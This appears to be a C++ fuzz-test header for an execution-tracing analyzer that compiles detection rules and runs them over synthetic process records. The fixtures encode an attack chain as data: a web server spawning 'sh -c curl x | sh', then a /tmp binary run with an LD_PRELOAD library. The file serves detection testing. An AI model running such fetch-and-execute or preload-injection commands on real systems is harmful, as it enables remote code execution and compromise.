// Text that may be rules: each is loaded or refused with a reason, and what is loaded has a
// condition that the engine can ask about executions, in containers and out of them, and about what
// failed.
#pragma once

#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdlib>
#include <sstream>
#include <string>

#include "analyzer/engine/engine.h"
#include "analyzer/rules/hardening.h"
#include "analyzer/rules/rule_set.h"
#include "analyzer/rules/rule_text.h"
#include "tests/support/records.h"
#include "tests/support/traces.h"

namespace exectrail::test {

inline const Records& someRecords() {
  static const Records kRecords = {
      exec("/usr/sbin/nginx").pid(6).top().args({"nginx: worker"}).user(33).session(6, 0),
      exec("/usr/bin/dash").pid(7).by(image(6)).args({"sh", "-c", "curl x | sh"}).session(6, 1),
      exec("/tmp/x")
          .pid(8)
          .by(image(7))
          .args({"./x", "-o", "A b"})
          .typed("./x")
          .cwd("/tmp")
          .owner(7)
          .container(std::string(64, 'a'))
          .environment({"LD_PRELOAD=/tmp/l.so"})
          .capabilities(1U << 21),
      attempt("/var/tmp/y", EACCES, image(8)).args({"y"}).cwd("/var/tmp"),
      exec("/usr/bin/ls").pid(9).noArgs().noCwd().noUser().noFile()};
  return kRecords;
}

// Each line is one that we begin: nothing of a rule reaches the next one.
inline void checkHardening(const std::string& text) {
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    const bool ours = line.starts_with("# ") || line.starts_with("/") || line == "[Service]" ||
                      line.starts_with("NoExecPaths=") || line.starts_with("deny ");
    if (!ours || line.find('\r') != std::string::npos) abort();
  }
}

inline int rulesFromAnyText(const std::uint8_t* data, std::size_t size,
                            const analyzer::Workloads* workloads = nullptr,
                            analyzer::KubeArmorGlobs globs = {}) {
  using namespace exectrail::analyzer;
  RuleSet rules = compileRules(
      {{"fuzz.yml", std::string(reinterpret_cast<const char*>(data), size), {}}}, workloads, globs);
  for (const RuleReport& report : rules.reports) {
    if (report.status != RuleStatus::kLoaded && report.notes.empty()) abort();
  }
  if (ruleTable(rules).empty()) abort();
  for (int target = 0; target < 3; ++target) {
    checkHardening(hardeningOf(rules.entries, static_cast<HardeningTarget>(target)).text);
  }
  for (const Recipe& recipe : rules.recipes) {
    if (!recipe.when || recipe.when->text.empty() || !recipe.info->origin) abort();
    std::string problem;
    if (!recipeText(recipe, problem) && problem.empty()) abort();
  }
  if (rules.recipes.empty()) return 0;
  const Program program(std::move(rules.recipes), {});
  Engine engine(program, header(), [](const Alert& alert) {
    if (!alert.recipe || !alert.recipe->origin) abort();
  });
  for (const OwnedRecord& owned : someRecords()) engine.process(owned.record);
  engine.finish();
  // What is not known is no match in these languages; only what a correlation groups by can be
  // open.
  for (const auto& [name, counts] : engine.summary().recipes) {
    if (counts.inconclusive != 0 && !name.starts_with("sigma/")) abort();
  }
  return 0;
}

}  // namespace exectrail::test
